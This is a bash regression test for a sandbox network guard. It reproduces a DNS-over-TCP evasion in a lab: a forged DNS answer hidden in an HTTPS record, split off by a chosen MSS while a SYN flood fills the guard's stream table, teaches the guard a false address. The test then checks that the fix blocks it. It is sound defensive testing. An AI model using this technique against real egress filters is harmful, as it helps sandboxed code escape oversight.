# Escape attempts, class "DNS over TCP framed by segments" (issue 30's
# class, the resolver's direction): the guard judged a resolver's TCP
# segment holding exactly one whole length-prefixed message as an answer
# of its own, wherever it lay in the stream. The sandbox's TCP frames the
# stream from the connection's first byte, so a segment cut from inside
# one answer — here the value of an HTTPS record served for an allowed name
# (in the world: any zone content an attacker controls under an allowed
# name) — was taken for an answer the sandbox never reads as one, and it
# taught the guard an address: cdn-good.test at paste.evil.test's. The cut
# is the sandbox's to choose: it advertises an MSS that ends the resolver's
# first segment where the forged answer begins. What made the guard judge
# the second segment alone: the first one found no room in the stream
# table (the sandbox held its share of it) and was dropped, so no stream
# framed what followed.
# The guard now keeps the resolver's direction of every DNS-over-TCP
# connection from its SYN-ACK on, owned by the sandbox's stream (taken at
# the SYN, one place in the table), and judges an answer only where the
# sandbox's TCP will read one.
# Evidence: the crafted client's view of the resolver's segments, the
# guard's log (what the query's record says it taught), the sandbox's
# connection to the forged address (refused; nothing reaches the upstream).
. "$PC_TOP/tests/escape/escape_lib.bash"
esc_init dns_answer_split "DNS over TCP answers framed by segments"
# one queue thread: the stream table the sandbox fills is the one its
# connection to the resolver uses
GUARD_QUEUE_COUNT=1
export GUARD_QUEUE_COUNT
ESC_ALLOW1='  - host: frame.test
    ports: [443]'
ID=5a5a   # the second query's ID, which the forged answer carries
MSS=49    # the forged answer framed: 2 + 47 bytes
# The HTTPS record's data: priority 1, target ".", then one parameter (a
# private key, 65001) whose value is the forged answer, framed: it starts
# 49 bytes into the resolver's direction (2 + 12 + 16 + 12 + 7), where the
# resolver's first segment of MSS bytes ends.
rdata=$(python3 - "$LAB_PASTE4" "$ID" "$MSS" <<'EOF'
import socket, struct, sys
ip, ident, mss = sys.argv[1], int(sys.argv[2], 16), int(sys.argv[3])
name = b"\x08cdn-good\x04test\x00"
m = struct.pack("!HHHHHH", ident, 0x8180, 1, 1, 0, 0) + name + struct.pack("!HH", 1, 1)
m += struct.pack("!HHHIH", 0xC00C, 1, 1, 300, 4) + socket.inet_aton(ip)
f = struct.pack("!H", len(m)) + m
assert len(f) == mss, len(f)
print((struct.pack("!HB", 1, 0) + struct.pack("!HH", 65001, len(f)) + f).hex())
EOF
)
LAB_DNS_EXTRA="--dns-rr=frame.test,65,$rdata"
esc_up 2
esc_crafted_ports 1 47400-47499

# The sandbox's kernel ignores the SYN-ACKs of the connections it opens to
# fill the table (a RST would end their streams); the crafted client's own
# are read on its raw socket.
lab_sb 1 nft -f - <<'EOF'
table inet split {
	chain in {
		type filter hook input priority 0;
		tcp sport 53 tcp dport != 47400-47499 tcp flags & (syn | ack) == syn | ack drop
	}
}
EOF

learned() { # name address: the log's records of NAME's query or answer naming ADDRESS
	guard_records | tail -n +$((ESC_REC0 + 1)) | python3 -c '
import json, sys
name, addr, n = sys.argv[1], sys.argv[2], 0
for l in sys.stdin:
    r = json.loads(l)
    if r.get("dns.question.name") == name and addr in (r.get("dns.resolved_ip") or []):
        n += 1
print(n)' "$1" "$2"
}

split() { # sport fill(0/1) -> the crafted client's summary
	local prog=$LAB_DIR/split-$1.prog go=$LAB_DIR/split-$1.go out=$LAB_DIR/split-$1.out cp
	rm -f "$prog" "$go"
	lab_sb 1 env ESC_GW_MAC="$ESC_GW_MAC" python3 "$ESC_CRAFT" dns-answer-split \
		--dst "$LAB_RESOLVER4" --sport "$1" --mss "$MSS" --carrier frame.test \
		--name cdn-good.test --progress "$prog" --go "$go" --wait 3 >"$out" 2>&1 &
	cp=$!
	for i in $(seq 1 100); do [ -s "$prog" ] && break; sleep 0.1; done
	# the sandbox takes every place of the stream table left: the first
	# answer's stream, were it made only now, would find none
	[ "$2" = 1 ] && esc_craft 1 tcp --dst "$LAB_RESOLVER4" --dport 53 --flags S --count 400 >/dev/null
	touch "$go"
	wait "$cp"
	cat "$out"
}

esc_begin "the control, with room in the table: the answer put together, then judged whole"
out=$(split 47402 0)
t_diag "crafted client: $out"
esc_settle
t_eq "nothing taught cdn-good.test at $LAB_PASTE4" 0 "$(learned cdn-good.test "$LAB_PASTE4")"
t_match "both answers reached the sandbox, in order" "in order to (14[7-9]|1[5-9][0-9]|[2-9][0-9][0-9])" "$out"
esc_end "allowed, framed as the sandbox reads it" "crafted client: $out"
esc_begin "an answer cut from inside an HTTPS record's data, judged alone, teaches cdn-good.test at $LAB_PASTE4 (the sandbox holds the stream table)"
out=$(split 47401 1)
t_diag "crafted client: $out"
t_match "the resolver's answers came in $MSS-byte segments (the cut the attack needs)" \
	"answer segments .*\b$MSS\+$MSS\b" "$out"
esc_settle
t_eq "the real answer taught cdn-good.test at $LAB_CDN4 (the exchange worked)" 1 \
	"$(learned cdn-good.test "$LAB_CDN4")"
n=$(learned cdn-good.test "$LAB_PASTE4")
t_eq "nothing taught cdn-good.test at $LAB_PASTE4" 0 "$n"
lab_sb 1 nft delete table inet split
t0=$(esc_upstream "src host $SB1_4 and dst host $LAB_PASTE4 and tcp port 443")
c=$(lab_sb 1 curl -sS -k --max-time 3 --resolve "cdn-good.test:443:$LAB_PASTE4" \
	https://cdn-good.test/ 2>&1)
esc_settle
t1=$(esc_upstream "src host $SB1_4 and dst host $LAB_PASTE4 and tcp port 443")
t_eq "the sandbox's connection to $LAB_PASTE4 as cdn-good.test reached nothing upstream" \
	"$t0" "$t1"
r=$(esc_reason "\"destination.ip\":\"$LAB_PASTE4\",")
t_match "refused: the address was never taught" "no allowed name resolved to this address" "$r"
esc_end "refused: answers are framed from the resolver's first byte" \
	"crafted client: $out; log: $n records teaching $LAB_PASTE4; curl: $c; log: \"$r\""

t_done
